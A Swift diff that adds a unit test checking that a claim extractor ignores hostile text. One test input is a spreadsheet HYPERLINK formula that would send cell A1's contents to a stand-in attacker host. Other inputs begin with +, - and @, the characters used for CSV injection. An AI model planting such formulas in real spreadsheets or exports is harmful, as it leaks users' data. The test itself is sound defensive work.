@@ -56,6 +56,17 @@ struct ClaimFinderTests {
     #expect(c?.unit == "killed")
   }
 
+  @Test("hostile text: quoted URLs, signed numbers and cities are not claims")
+  func hostile() {
+    let x = XDoc.extract([
+      "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\") was pasted.",
+      "Leaders met in New York. +1 delegations -- or @all of them -- attended the ceremony.",
+    ])
+    #expect(!x.claims.contains { $0.attribute == "quote" })
+    #expect(!x.claims.contains { $0.attribute == "count" })
+    #expect(!x.claims.contains { $0.subject?.hasPrefix("city:") == true })
+  }
+
   @Test("no count from a date or a year")
   func noDates() {
     let x = XDoc.extract(
